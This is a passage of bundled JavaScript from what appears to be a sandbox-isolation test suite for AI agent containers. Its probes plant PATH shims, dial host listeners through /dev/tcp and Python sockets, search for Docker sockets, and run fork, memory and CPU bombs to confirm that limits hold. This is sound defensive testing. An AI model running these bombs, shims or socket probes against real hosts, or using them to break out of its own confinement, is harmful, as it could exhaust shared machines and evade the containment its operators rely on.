        await ctx.agentExec([...keep, ...writes].join('; ') + '; true');
    }
    return dirs;
}
async function remove(ctx, dirs) {
    for (const dir of dirs) {
        const undo = SHIM_NAMES.map((name) => `/bin/rm -f ${sh(`${dir}/${name}`)}; [ -e ${sh(`${dir}/.massgen-kept-${name}`)} ] && /bin/mv ${sh(`${dir}/.massgen-kept-${name}`)} ${sh(`${dir}/${name}`)}`);
        await ctx.agentExec(undo.join('; ') + '; true').catch(() => undefined);
    }
}
const harnessShimsProbe = {
    id: 'harness-shims',
    number: 22,
    title: "the harness runs nothing from the agent's PATH: shims never run as root, timeouts still kill",
    phase: 'disruptive',
    async run(ctx) {
        const log = `${ctx.scratch}/shims.log`;
        await ctx.agentExec(`chmod 777 ${sh(ctx.scratch)}`);
        const dirs = await plant(ctx, log);
        if (!dirs.length)
            return pass("no directory on the container's PATH is the agent's to write: nothing could be planted");
        try {
            const r = await ctx.agentExec('/bin/sleep 600 & /bin/sleep 600', { timeoutMs: harness_TIMEOUT_MS });
            const ran = await ctx.rootExec(['/bin/cat', log]);
            const lines = ran.stdout.split('\n').filter(Boolean);
            const asRoot = lines.filter((l) => l.endsWith(' 0')).map((l) => l.split(' ')[0]);
            const listing = await agentProcesses(ctx);
            const left = 'error' in listing ? [listing.error] : listing.processes;
            const problems = [];
            if (asRoot.length)
                problems.push(`shims ran as root: ${list([...new Set(asRoot)])}`);
            if (!r.timedOut)
                problems.push(`the step was not reported as timed out (exit ${r.exitCode})`);
            if (left.length)
                problems.push(`left after the timeout: ${list(left, 3)}`);
            if (problems.length)
                return fail(list(problems));
            const byAgent = [...new Set(lines.map((l) => l.split(' ')[0]))];
            return pass(`${SHIM_NAMES.length} shims in ${list(dirs)}; a step timed out, nothing survived, no shim ran as root` +
                (byAgent.length ? ` (ran as the agent only: ${list(byAgent)})` : ' (none ran)'));
        }
        finally {
            await remove(ctx, dirs);
        }
    }
};

;// CONCATENATED MODULE: ./src/isolation/probes/network.ts
// Probes 4 and 5: the network the agent has, and whether it can reach the engine.


/** `0100007F:0C38` (and the IPv6 form) from /proc/net/tcp* → `127.0.0.1:3128`. */
function procNetAddress(hex) {
    const [addr, port] = hex.split(':');
    const p = parseInt(port, 16);
    if (addr.length === 8) {
        const b = Buffer.from(addr, 'hex');
        return `${b[3]}.${b[2]}.${b[1]}.${b[0]}:${p}`;
    }
    // Four little-endian 32-bit words.
    const words = (addr.match(/.{8}/g) ?? []).map((w) => Buffer.from(w, 'hex').reverse());
    const b = Buffer.concat(words);
    const groups = Array.from({ length: 8 }, (_, i) => b.readUInt16BE(i * 2).toString(16));
    // The URL parser writes an IPv6 address in its canonical, compressed form.
    return `${new URL(`http://[${groups.join(':')}]/`).hostname}:${p}`;
}
const LOOPBACK = /^(127\.\d+\.\d+\.\d+|\[::1\]|\[::ffff:7f[0-9a-f]{2}:[0-9a-f]+\]):/;
/**
 * Dials from inside: `tcp <port> <host>...` prints what a host listener says (REACHED) or why not
 * (REFUSED); `unix <path>...` asks each socket for the engine's /_ping (ANSWERED, NOANSWER).
 */
const DIAL = `
import socket, sys
mode, rest = sys.argv[1], sys.argv[2:]
tcp = mode == 'tcp'
for target in (rest[1:] if tcp else rest):
    s = socket.socket(socket.AF_INET if tcp else socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2 if tcp else 3)
    try:
        s.connect((target, int(rest[0])) if tcp else target)
        if tcp:
            print('REACHED', target, s.recv(64).decode(errors='replace').strip())
        else:
            s.sendall(b'GET /_ping HTTP/1.0\\r\\nHost: docker\\r\\n\\r\\n')
            print('ANSWERED', target, s.recv(64).split(b'\\r\\n')[0].decode(errors='replace'))
    except OSError as e:
        print('REFUSED' if tcp else 'NOANSWER', target, e.__class__.__name__)
    finally:
        s.close()
`;
const networkProbe = {
    id: 'network',
    number: 4,
    title: 'network none: only lo (with egress, and the relay on it), no DNS, no TCP to a host listener',
    phase: 'parallel',
    async run(ctx) {
        const { port, addresses } = ctx.host.listener;
        const r = await attempts(ctx, [
            // /proc/net/dev, not /sys/class/net: gVisor's sysfs has no class/net.
            "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | sed 's/^/IF /'",
            'if timeout 5 getent hosts github.com >/dev/null 2>&1; then echo "DNS resolved github.com"; fi',
            'if command -v python3 >/dev/null; then',
            python(DIAL, ['tcp', String(port), ...addresses]),
            'else',
            ...addresses.map((a) => `  if timeout 3 bash -c ${sh(`exec 3<>/dev/tcp/${a}/${port}`)} 2>/dev/null; then echo "REACHED ${a}"; else echo "REFUSED ${a}"; fi`),
            'fi',
            `for f in /proc/net/tcp /proc/net/tcp6; do [ -r "$f" ] && awk 'NR>1 && $4=="0A" {print "LISTEN", $2, $8}' "$f"; done`
        ], 'the network attempts', 60_000);
        if (isOutcome(r))
            return r;
        const ifaces = tagged(r.stdout, 'IF');
        const problems = [];
        const extra = ifaces.filter((i) => i !== 'lo');
        if (extra.length)
            problems.push(`interfaces ${extra.join(', ')}`);
        if (tagged(r.stdout, 'DNS').length)
            problems.push('DNS resolves');
        const reached = tagged(r.stdout, 'REACHED').map((l) => l.split(' ')[0]);
        if (reached.length)
            problems.push(`reached the host listener on ${list(reached)}:${port}`);
        const listening = tagged(r.stdout, 'LISTEN').map((l) => {
            const [addr, uid] = l.split(/\s+/);
            return { at: procNetAddress(addr), uid: Number(uid) };
        });
        // With egress, the relay is the one way out: on loopback only, and not the agent's process.
        const relay = listening.filter((l) => l.at.endsWith(`:${egress/* RELAY_PORT */.Co}`));
        if (ctx.egress) {
            if (!relay.length)
                problems.push(`no egress relay listens on port ${egress/* RELAY_PORT */.Co}`);
            for (const l of relay) {
                if (!LOOPBACK.test(l.at))
                    problems.push(`the egress relay listens on ${l.at}, not loopback`);
                if (l.uid === ctx.uid)
                    problems.push(`the egress relay runs as the agent's uid ${l.uid}`);
            }
        }
        if (problems.length)
            return fail(list(problems));
        const listeners = listening.length
            ? `; listening: ${list(listening.map((l) => `${l.at} (uid ${l.uid}${ctx.egress && relay.includes(l) ? ', egress relay' : ''})`))}`
            : '';
        return pass(`interfaces: ${ifaces.join(', ') || 'none'}; DNS fails; TCP to the host listener refused on ${addresses.length} address(es)${listeners}`);
    }
};
const SOCKETS = [
    '/var/run/docker.sock',
    '/run/docker.sock',
    '/run/containerd/containerd.sock',
    '/var/run/containerd/containerd.sock',
    '/run/podman/podman.sock',
    '/run/user/1000/docker.sock'
];
const dockerSocketProbe = {
    id: 'docker-socket',
    number: 5,
    title: 'no Docker socket, no DOCKER_HOST',
    phase: 'parallel',
    async run(ctx) {
        const r = await attempts(ctx, [
            `for p in ${SOCKETS.map(sh).join(' ')}; do [ -e "$p" ] && echo "SOCK $p"; done`,
            // Any socket bind-mounted anywhere (the mount point itself is the socket).
            `awk '{print $5}' /proc/self/mountinfo | while read -r m; do [ -S "$m" ] && echo "SOCK $m"; done`,
            '[ -n "${DOCKER_HOST:-}" ] && echo "ENV DOCKER_HOST"'
        ], 'the checks');
        if (isOutcome(r))
            return r;
        const socks = [...new Set(tagged(r.stdout, 'SOCK'))];
        const info = await ctx.inspect();
        const envHost = tagged(r.stdout, 'ENV').length > 0 ||
            (info.Config.Env ?? []).some((e) => e.startsWith('DOCKER_HOST='));
        const problems = [];
        if (socks.length) {
            const ping = await ctx.agentExec(`command -v python3 >/dev/null && ${python(DIAL, ['unix', ...socks])}`);
            const answered = tagged(ping.stdout, 'ANSWERED');
            problems.push(`socket(s) present: ${list(socks)}${answered.length ? `; the engine answered: ${list(answered)}` : ' (not answering this uid, but present)'}`);
        }
        if (envHost)
            problems.push('DOCKER_HOST is set in the container');
        if (problems.length)
            return fail(list(problems));
        return pass(`no engine socket at ${SOCKETS.length} known paths or among the mounts; DOCKER_HOST unset`);
    }
};
/** A name no allowlist may list: what probe 4 asks the proxy for. */
const DENIED_NAME = 'denied.massgen-isolation.test';
const srtNetworkProbe = {
    id: 'network',
    number: 4,
    phase: 'parallel',
    title: 'no network of its own: only lo, no DNS, no TCP to a host listener; the proxy refuses a name no list allows',
    async run(ctx) {
        const { port, addresses } = ctx.host.listener;
        const targets = ['127.0.0.1', ...addresses];
        const r = await attempts(ctx, [
            // /proc/net is the step's own network namespace (/sys/class/net is the host's sysfs).
            `tail -n +3 /proc/net/dev | while IFS=: read -r i _; do echo "IF $(echo $i)"; done`,
            'if timeout 5 getent hosts github.com >/dev/null 2>&1; then echo "DNS resolved github.com"; fi',
            python(DIAL, ['tcp', String(port), ...targets]),
            // Through the proxy the sandbox is given: a name no allowlist may list.
            `code=$(curl -s -m 10 -o /dev/null -w '%{http_code}' http://${DENIED_NAME}/ 2>/dev/null); echo "PROXY $code"`
        ], 'the network attempts', 60_000);
        if (isOutcome(r))
            return r;
        const problems = [];
        const extra = tagged(r.stdout, 'IF').filter((i) => i !== 'lo');
        if (extra.length)
            problems.push(`interfaces ${extra.join(', ')}`);
        if (tagged(r.stdout, 'DNS').length)
            problems.push('DNS resolves');
        const reached = tagged(r.stdout, 'REACHED').map((l) => l.split(' ')[0]);
        if (reached.length)
            problems.push(`reached the host listener on ${list(reached)}:${port}`);
        if (!tagged(r.stdout, 'REFUSED').length)
            problems.push('python3 could not attempt the connections');
        const proxy = tagged(r.stdout, 'PROXY')[0] ?? '';
        if (proxy !== '403')
            problems.push(`the proxy answered ${proxy || 'nothing'} for a name no rule allows (expected 403)`);
        if (problems.length)
            return fail(list(problems));
        return pass(`only lo; DNS fails; TCP to the host listener refused on ${targets.length} address(es); the proxy refuses an unlisted name (403)`);
    }
};
const UNIX = `
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
print('CREATED')
for p in ['/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock']:
    try:
        s.connect(p)
        print('CONNECTED', p)
        break
    except OSError:
        pass
`;
const srtUnixSocketsProbe = {
    id: 'unix-sockets',
    number: 5,
    phase: 'parallel',
    title: 'no Unix sockets (so no Docker or containerd socket), no DOCKER_HOST',
    async run(ctx) {
        const r = await ctx.agentExec([
            `{ ${python(UNIX)}
} 2>&1 | tail -n 3`,
            'echo "DOCKER_HOST=${DOCKER_HOST:-}"',
            'echo DONE'
        ].join('\n'));
        if (!r.stdout.includes('DONE'))
            return fail(`the checks did not complete (exit ${r.exitCode})`);
        const problems = [];
        if (r.stdout.includes('CREATED'))
            problems.push('an AF_UNIX socket could be created');
        problems.push(...tagged(r.stdout, 'CONNECTED').map((p) => `connected to ${p}`));
        if (!/DOCKER_HOST=\n/.test(r.stdout))
            problems.push('DOCKER_HOST is set');
        if (problems.length)
            return fail(list(problems));
        if (!/PermissionError|Operation not permitted/.test(r.stdout))
            return fail(`socket creation failed for another reason: ${r.stdout.slice(0, 200)}`);
        return pass('socket(AF_UNIX) refused (seccomp); DOCKER_HOST unset');
    }
};

;// CONCATENATED MODULE: ./src/isolation/probes/peers.ts
// Probe 19: agents cannot see each other's workspaces or processes. Every other container of the
// check (the config's other agents, or a throwaway started from this agent's plan) has a marker
// file in its workspace and a marker process; neither may be visible from here. The process is
// looked for with a pattern that does not match itself, so the looking shell is never a hit.


/** A line that echoes `said` when `file` (a peer's marker) can be read. */
const canRead = (file, said) => `if cat ${sh(file)} >/dev/null 2>&1; then echo "${said}"; fi`;
/** A line that echoes `said` when a process whose argv has `tag` is visible. */
const canSee = (tag, said) => `if cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' ' | grep -q ${sh(tag.replace('.', '[.]'))}; then echo "${said}"; fi`;
const crossAgentProbe = {
    id: 'cross-agent',
    number: 19,
    title: "agents cannot see each other's workspaces or processes",
    phase: 'parallel',
    async run(ctx) {
        if (!ctx.peers.length)
            return skip('no other container to look for');
        const r = await attempts(ctx, [
            ...ctx.peers.map((p) => canRead(p.markerFile, `SEEN workspace of ${p.id}`)),
            ...ctx.peers.map((p) => canSee(p.processTag, `SEEN a process of ${p.id}`)),
            'set -- /proc/[0-9]*; echo "PIDS $#"'
        ], 'the checks');
        if (isOutcome(r))
            return r;
        const seen = r.stdout
            .split('\n')
            .filter((l) => l.startsWith('SEEN '))
            .map((l) => l.slice(5));
        if (seen.length)
            return fail(`visible: ${list(seen)}`);
        const names = ctx.peers.map((p) => p.fromConfig ? p.id : `${p.id} (throwaway from this agent's plan)`);
        return pass(`workspace marker and marker process of ${list(names)} invisible`);
    }
};
const srtCrossAgentProbe = {
    id: 'cross-agent',
    number: 19,
    phase: 'parallel',
    title: "agents cannot write each other's workspaces nor see their processes (nor read them in strict)",
    async run(ctx) {
        if (!ctx.peers.length)
            return skip('no other srt agent to look for');
        const r = await attempts(ctx, [
            ...ctx.peers.map((p) => `if (echo x >> ${sh(p.markerFile)}) 2>/dev/null; then echo "WROTE workspace of ${p.id}"; fi`),
            ...ctx.peers.map((p) => canRead(p.markerFile, `READ workspace of ${p.id}`)),
            ...ctx.peers.map((p) => canSee(p.processArgv, `SAW a process of ${p.id}`))
        ], 'the checks');
        if (isOutcome(r))
            return r;
        const problems = [...tagged(r.stdout, 'WROTE'), ...tagged(r.stdout, 'SAW')];
        const read = tagged(r.stdout, 'READ');
        // Only strict hides other agents' workspaces outright; confined hides those under $HOME.
        const mustHide = ctx.peers.filter((p) => ctx.srt.readMode === 'strict' ||
            (ctx.srt.readMode === 'confined' &&
                p.workspace !== ctx.host.home &&
                (0,paths/* isInside */.F)(p.workspace, ctx.host.home)));
        problems.push(...read.filter((l) => mustHide.some((p) => l.endsWith(` ${p.id}`))));
        if (problems.length)
            return fail(list(problems));
        const readable = read.length ? `; readable (read_mode ${ctx.srt.readMode}): ${list(read)}` : '';
        return pass(`${ctx.peers.length} peer(s): workspace not writable, processes invisible${readable}`);
    }
};

;// CONCATENATED MODULE: ./src/isolation/probes/resources.ts
// Probes 6, 7 and 8: the limits that keep one agent from exhausting the runner — a fork bomb, a
// memory bomb, a CPU hog. Each is real and bounded, so a missing limit fails the probe without
// taking the runner down.



/** The most processes the fork bomb creates when no limit stops it first. */
const MAX_BOMB = MAX_PIDS_LIMIT;
const BOMB_TIMEOUT_MS = 6_000;
/** gVisor on ptrace spawns ~100 processes a second: the bomb needs longer to reach the limit. */
const GVISOR_BOMB_TIMEOUT_MS = 60_000;
// Spawns sleeps until that fails (or `target` of them), then holds on, as a bomb would, until the
// step's timeout kills every process of the agent. posix_spawn (vfork) keeps each child small.
const BOMB = `
import errno, os, sys, time
target = int(sys.argv[1])
null = os.open('/dev/null', os.O_RDWR)
made, err = 0, ''
quiet = [(os.POSIX_SPAWN_DUP2, null, fd) for fd in (0, 1, 2)]
while made < target:
    try:
        os.posix_spawn('/bin/sleep', ['sleep', '300'], {}, file_actions=quiet)
    except OSError as e:
        err = errno.errorcode.get(e.errno, str(e.errno))
        break
    made += 1
    if made % 256 == 0:
        print('FORKS', made, flush=True)
print('BOMB', made, err or 'none', flush=True)
time.sleep(600)
`;
/** Whether python3 is in the image (undefined when the check itself could not run). */
async function hasPython(ctx) {
    const r = await ctx.agentExec('if command -v python3 >/dev/null; then echo PY yes; else echo PY no; fi');
    const v = tagged(r.stdout, 'PY')[0];
    return v === undefined ? undefined : v === 'yes';
}
/** Ends every process of the agent the way a step timeout does (the session's own kill). */
async function killThroughTimeout(ctx) {
    const r = await ctx
        .agentExec('sleep 60', { timeoutMs: 300 })
        .catch((e) => ({ note: e.message }));
    return r.note;
}
/** The agent's live processes in the container, counted as root (undefined when that failed). */
async function countAgentProcesses(ctx) {
    const listing = await agentProcesses(ctx);
    return 'processes' in listing ? listing.processes.length : undefined;
}
const forkBombProbe = {
    id: 'fork-bomb',
    number: 6,
    title: "a fork bomb stops at the pids limit, another agent's container keeps working, processes return to baseline",
    phase: 'exclusive',
    async run(ctx) {
        const py = await hasPython(ctx);
        if (py === false)
            return skip(NO_PYTHON);
        if (py === undefined)
            return fail('could not run a command in the container before the bomb');
        const info = await ctx.inspect();
        const limit = info.HostConfig.PidsLimit ?? 0;
        const target = limit > 0 ? Math.min(limit + 64, MAX_BOMB) : MAX_BOMB;
        const baseline = await countAgentProcesses(ctx);
        const peer = ctx.peers[0];
        let line;
        let sawLine;
        const started = new Promise((resolve) => (sawLine = resolve));
        let buffer = '';
        const gvisor = ctx.runtime.gvisor;
        const bomb = ctx.session.exec({
            command: python(BOMB, [String(target)]),
            cwd: ctx.agent.workspace,
            env: {},
            timeoutMs: gvisor ? GVISOR_BOMB_TIMEOUT_MS : BOMB_TIMEOUT_MS,
            maxOutputBytes: 64 * 1024,
            onOutput: (stream, chunk) => {
                if (stream !== 'stdout')
                    return;
                buffer += chunk.toString();
                // Only a whole line: a chunk can end in the middle of it.
                const m = /^BOMB \d+ \S+\n/m.exec(buffer);
                if (m && line === undefined) {
                    line = m[0].trim();
                    sawLine();
                }
            }
        });
        await Promise.race([started, bomb]);
        // Without a peer (none could be started) the bomb is still checked; the detail says so.
        let peerWorks = 'ok';
        if (peer) {
            const p = await peer.session
                .exec({
                command: 'echo alive',
                cwd: peer.plan.workspace,
                env: {},
                timeoutMs: 20_000,
                maxOutputBytes: 4096
            })
                .catch((e) => ({ exitCode: null, stdout: '', stderr: e.message, timedOut: false }));
            peerWorks =
                p.exitCode === 0 && p.stdout.includes('alive')
                    ? 'ok'
                    : `failed (${p.timedOut ? 'timed out' : `exit ${p.exitCode}`} ${p.stderr.slice(0, 120)})`;
        }
        const result = await bomb;
        line ??= /^BOMB \d+ \S+$/m.exec(result.stdout)?.[0];
        const after = await countAgentProcesses(ctx);
        const [made, err] = (line ?? 'BOMB ? ?').split(' ').slice(1);
        const problems = [];
        // Under gVisor the pids cgroup also counts the sandbox's own host threads, and going past it
        // ends the whole sandbox (no EAGAIN reaches the agent); at a small memory limit the OOM killer
        // may end it first. Either way the sandbox contained the bomb and the session started it
        // again: what is judged is that containment (the next step runs, the peer and the host are
        // unaffected, no process is left), not which limit ended it (issue 24).
        // On ptrace under load gVisor may spawn so slowly that neither limit is reached before the
        // step's timeout: the kill then ends the bomb, which is containment too.
        const sandboxEnded = gvisor &&
            (result.sandboxRestarted === true || result.oom === true || (result.timedOut && !line));
        let nextStep = '';
        if (sandboxEnded) {
            const next = await ctx.agentExec('echo alive').catch((e) => ({
                exitCode: null,
                stdout: '',
                note: e.message
            }));
            if (!next.stdout.includes('alive'))
                problems.push(`the agent's next step did not run after the sandbox ended (exit ${next.exitCode})`);
            else
                nextStep = `; the agent's next step ran${result.sandboxRestarted ? ' in the restarted sandbox' : ''}`;
        }
        else if (line === undefined) {
            const progress = tagged(buffer, 'FORKS').at(-1);
            const why = result.oom
                ? 'killed by the OOM killer'
                : result.timedOut
                    ? 'timed out'
                    : `exit ${result.exitCode}`;
            problems.push(progress
                ? `spawned at least ${progress} processes without hitting the pids limit (${limit || 'none'}) before the bomb ended (${why})`
                : `the bomb never reported (${why})`);
        }
        else if (err === 'none')
            problems.push(`spawned ${made} processes without hitting a limit (pids limit ${limit || 'none'})`);
        if (peerWorks !== 'ok')
            problems.push(`peer ${peer?.id ?? ''} ${peerWorks}`);
        if (after === undefined || baseline === undefined)
            problems.push('could not count the agent processes afterwards');
        else if (after > baseline)
            problems.push(`${after - baseline} process(es) of uid ${ctx.uid} left after the step ended`);
        const how = result.note ? ` (${result.note})` : '';
        if (problems.length) {
            // Leave the container usable for the probes after this one.
            if (after === undefined || baseline === undefined || after > baseline)
                await killThroughTimeout(ctx);
            return fail(`${list(problems)}${how}`);
        }
        const forks = `${tagged(buffer, 'FORKS').at(-1) ?? 'fewer than 256'}+ forks`;
        const stopped = !sandboxEnded
            ? `stopped by ${err} after ${made} forks (pids limit ${limit})`
            : result.timedOut && !result.sandboxRestarted && !result.oom
                ? `gVisor: the sandbox contained the bomb: it reached ${forks} in ${GVISOR_BOMB_TIMEOUT_MS / 1000} s without reaching the pids limit ${limit} or the memory limit, and the step's timeout ended it`
                : result.oom
                    ? `gVisor: the sandbox contained the bomb: the memory limit (OOM killer) ended it after ${forks}, before the pids limit ${limit}${result.sandboxRestarted ? ', and it was started again' : ''}`
                    : `gVisor: the sandbox ended at the pids limit ${limit} after ${forks} and was started again`;
        return pass(`${stopped}; ${peer ? `peer ${peer.id} kept working` : 'no peer container to check'}; back to ${after} process(es) of uid ${ctx.uid}${nextStep}${how}`);
    }
};
/** With no memory limit the bomb stops itself here (bytes). */
const UNLIMITED_BOMB = 1024 * 1024 * 1024;
const MEMORY = `
import sys
target = int(sys.argv[1])
chunk = 16 * 1024 * 1024
held = []
while len(held) * chunk < target:
    b = bytearray(chunk)
    for i in range(0, chunk, 4096):
        b[i] = 1
    held.append(b)
    print('HELD', len(held) * chunk, flush=True)
print('SURVIVED', len(held) * chunk, flush=True)
`;
const memoryBombProbe = {
    id: 'memory-bomb',
    number: 7,
    title: 'a memory bomb is reported as oom',
    phase: 'disruptive',
    async run(ctx) {
        const info = await ctx.inspect();
        const limit = info.HostConfig.Memory ?? 0;
        const target = limit > 0 ? limit + 128 * 1024 * 1024 : UNLIMITED_BOMB;
        const py = await hasPython(ctx);
        if (py === false)
            return skip(NO_PYTHON);
        if (py === undefined)
            return fail('could not run a command in the container before the bomb');
        const r = await ctx.agentExec(python(MEMORY, [String(target)]), { timeoutMs: 120_000 });
        const held = tagged(r.stdout, 'HELD').at(-1) ?? '0';
        const mib = (n) => `${Math.round(n / 1024 / 1024)} MiB`;
        if (r.oom)
            return pass(`killed by the OOM killer after ${mib(Number(held))} (limit ${mib(limit)}); reported as oom`);
        if (tagged(r.stdout, 'SURVIVED').length)
            return fail(`allocated ${mib(target)} without being killed (memory limit ${limit > 0 ? mib(limit) : 'none'})`);
        return fail(`the bomb ended without an oom report: exit ${r.exitCode}${r.timedOut ? ', timed out' : ''} after ${mib(Number(held))}`);
    }
};
const CPU = `
import os, sys, time
n, seconds = int(sys.argv[1]), float(sys.argv[2])
start = time.time()
for _ in range(n):
    if os.fork() == 0:
        end = time.time() + seconds
        while time.time() < end:
            pass
        os._exit(0)
for _ in range(n):
    os.wait()
t = os.times()
print('CPU', t.children_user + t.children_system, time.time() - start, os.cpu_count())
`;
/** The container's cumulative CPU time on the host (engine stats) and when it was read. */
async function hostCpu(ctx) {
    const stats = await ctx.client.containerStats(ctx.container).catch(() => undefined);
    return stats?.cpuTotalNs === undefined ? undefined : { ns: stats.cpuTotalNs, at: Date.now() };
}
const cpuProbe = {
    id: 'cpu-quota',
    number: 8,
    title: 'CPU use stays within the quota',
    phase: 'exclusive',
    async run(ctx) {
        const info = await ctx.inspect();
        const h = info.HostConfig;
        const quota = (h.NanoCpus ?? 0) > 0
            ? h.NanoCpus / 1e9
            : (h.CpuQuota ?? 0) > 0
                ? h.CpuQuota / (h.CpuPeriod || 100_000)
                : undefined;
        const configured = ctx.config.cpus;
        const has = await ctx.agentExec('if command -v python3 >/dev/null; then echo PY yes; else echo PY no; fi; echo "CPUS $(nproc)"');
        const py = tagged(has.stdout, 'PY')[0];
        if (py === 'no')
            return skip(NO_PYTHON);
        if (py === undefined)
            return fail(`could not run a command in the container (exit ${has.exitCode})`);
        const cores = Number(tagged(has.stdout, 'CPUS')[0]) || 1;
        // What the config promises is what is checked; the container's own quota is in the detail.
        const limit = configured ?? quota;
        if (limit !== undefined && limit >= cores)
            return skip(`the CPU limit (${limit}) is not below this host's ${cores} CPU(s), so it cannot be exceeded here`);
        const workers = Math.min(cores, Math.ceil(limit ?? cores) + 1);
        // gVisor's per-process CPU times are its own account (inflated on ptrace): the host cgroup's,
        // as the engine's stats report it, is what the quota limits.
        // Measured around the whole step, which includes starting it: a longer hog dilutes that less.
        const hostBefore = ctx.runtime.gvisor ? await hostCpu(ctx) : undefined;
        const seconds = hostBefore ? '4' : '2';
        const r = await ctx.agentExec(python(CPU, [String(workers), seconds]), { timeoutMs: 60_000 });
        const hostAfter = hostBefore ? await hostCpu(ctx) : undefined;
        const [inside, hogWall] = (tagged(r.stdout, 'CPU')[0] ?? '').split(' ').map(Number);
        if (!(hogWall > 0))
            return fail(`the CPU hog did not report (exit ${r.exitCode})`);
        if (hostBefore && !hostAfter)
            return fail("could not read the container's CPU time from the engine");
        const [cpu, wall] = hostBefore && hostAfter
            ? [(hostAfter.ns - hostBefore.ns) / 1e9, (hostAfter.at - hostBefore.at) / 1000]
            : [inside, hogWall];
        const used = cpu / wall;
        const seen = `${workers} busy processes used ${used.toFixed(2)} CPUs over ${wall.toFixed(1)} s${hostBefore ? " (the container's host cgroup, from the engine's stats: gVisor's own accounting is not the quota's)" : ''}`;
        if (limit === undefined)
            return fail(`no CPU limit: ${seen}`);
        if (used > limit * 1.1 + 0.05)
            return fail(`${seen}, over the limit of ${limit}${quota === undefined ? ' (the container has no CPU quota)' : ''}`);
        return pass(`${seen}, within the limit of ${limit}`);
    }
};

;// CONCATENATED MODULE: ./src/isolation/probes/runtime.ts
// Probe 27: the container runs under the runtime it should — by the engine's account (inspect's
// HostConfig.Runtime, the engine's default when unset) and by the kernel that answers an agent
// process (gVisor's own dmesg, or /proc/version naming the engine host's release). What "should"
// means comes from outside the config when the check is told (`--expect-runtime`, action input
// `expect-runtime`: a name, or `gvisor` for any gVisor runtime), so that a config that lost its
// `command_line_docker_runtime` key fails here; otherwise it is the config's own runtime.



/** `--expect-runtime gvisor`: any runtime the engine runs as gVisor. */
const ANY_GVISOR = 'gvisor';
const runtime_KERNEL_VIEW = [
    // gVisor answers syslog(2) for anyone with its own boot log; the host's kernel refuses uid 1000.
    'dmesg 2>&1 | head -n 3 | sed "s/^/DMESG /"',
    'echo "VERSION $(cat /proc/version 2>&1)"',
    'echo DONE'
].join('\n');
/**
 * `--expect-runtime` / input `expect-runtime`: a runtime name as the engine spells one (the config
 * key's own pattern), or `gvisor`; empty means none.
 */
function expectRuntimeOption(value) {
    if (value === undefined || value === '')
        return undefined;
    if (!/^[A-Za-z0-9][A-Za-z0-9_.-]*$/.test(value))
        throw new errors/* UsageError */.eb(`expect-runtime: ${JSON.stringify(value)} is not a runtime name like "runsc" (or "${ANY_GVISOR}")`);
    return value;
}
function expectationOf(ctx) {
    const info = { Runtimes: ctx.engine.runtimes, DefaultRuntime: ctx.engine.defaultRuntime };
    const wanted = ctx.expectRuntime;
    if (wanted === ANY_GVISOR)
        return { gvisor: true, from: '--expect-runtime gvisor' };
    if (wanted)
        return { name: wanted, gvisor: (0,docker.isGvisorRuntime)(wanted, info), from: '--expect-runtime' };
    return {
        name: ctx.runtime.name,
        gvisor: ctx.runtime.gvisor,
        from: ctx.config.runtime ? 'the config' : "the engine's default"
    };
}
const runtimeProbe = {
    id: 'runtime',
    number: 27,
    title: 'the container runs under the expected runtime (engine inspect + the kernel that answers)',
    phase: 'parallel',
    async run(ctx) {
        const info = await ctx.inspect();
        const actual = info.HostConfig.Runtime || ctx.engine.defaultRuntime;
        const engineInfo = { Runtimes: ctx.engine.runtimes, DefaultRuntime: ctx.engine.defaultRuntime };
        const expected = expectationOf(ctx);
        const r = await ctx.agentExec(runtime_KERNEL_VIEW);
        if (!r.stdout.includes('DONE'))
            return fail(`could not ask the container's kernel (exit ${r.exitCode})`);
        const dmesg = tagged(r.stdout, 'DMESG').join('\n');
        const procVersion = tagged(r.stdout, 'VERSION')[0] ?? '';
        const kernel = (0,docker.kernelIdentity)({ dmesg, procVersion, hostRelease: ctx.engine.kernel });
        const release = /^Linux version (\S+)/.exec(procVersion)?.[1] ?? 'unknown';
        const seen = kernel === 'gvisor'
            ? `gVisor's kernel answers (dmesg "Starting gVisor", release ${release})`
            : kernel === 'host'
                ? `the engine host's kernel answers (${release})`
                : `a kernel that is neither gVisor's nor the engine host's (${release}; host ${ctx.engine.kernel ?? 'unknown'})`;
        const want = expected.name ?? 'a gVisor runtime';
        const problems = [];
        if (expected.name !== undefined && actual !== expected.name)
            problems.push(`the container runs under ${actual}, expected ${expected.name}`);
        if (expected.name === undefined && !(0,docker.isGvisorRuntime)(actual, engineInfo))
            problems.push(`the container runs under ${actual}, which is not gVisor`);
        if (expected.gvisor && kernel !== 'gvisor')
            problems.push(`${seen}, not gVisor's: the agent's system calls reach the host kernel`);
        if (!expected.gvisor && kernel !== 'host')
            problems.push(`${seen}, expected the host's`);
        if (expected.name !== undefined && !Object.hasOwn(ctx.engine.runtimes, expected.name))
            problems.push(`the engine does not list ${expected.name}`);
        if (problems.length)
            return fail(`${list(problems)} [expected ${want} per ${expected.from}]`);
        return pass(`${actual} (expected ${want} per ${expected.from}); ${seen}`);
    }
};

// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __webpack_require__(31421);
;// CONCATENATED MODULE: ./src/isolation/probes/egress-socket.ts
// Probe 28, for docker agents with command_line_egress: the host side of the egress socket serves
// only the agent's relay. The socket must be connectable by the relay's uid inside the container,
// so on the host other users can connect too; the per-agent relay token (runtime/egress/
// socket-gate.ts) is what refuses them. The probe connects from the host, as this process's uid
// and, when verify runs as root, as nobody (the relay's own uid, so that only the token can tell
// them apart), and asks for the allowlisted probe name: anything but a refusal fails. Inside the
// container, the agent must not be able to read the token from the relay's environment.






/** The uid the second attempt runs as when verify is root (nobody: the relay's uid too). */
const OTHER_UID = (0,user/* parseUser */.tN)(user/* NOBODY */.oQ).uid;
const ATTEMPT_TIMEOUT_MS = 10_000;
// One connection: the request the agent's relay would carry, without the relay's preamble. Prints
// the first line of the answer ("" when the socket closed without one) or "ERROR <why>".
const ATTEMPT_JS = `
const net = require('net')
const [path, host, port] = process.argv.slice(1)
const s = net.connect({ path })
let data = ''
const done = (line) => { process.stdout.write(line + '\\n'); process.exit(0) }
s.setTimeout(8000, () => done('ERROR timeout'))
s.on('data', (d) => { data += d })
s.on('error', (e) => done('ERROR ' + e.code))
s.on('close', () => done(data.split('\\r\\n')[0]))
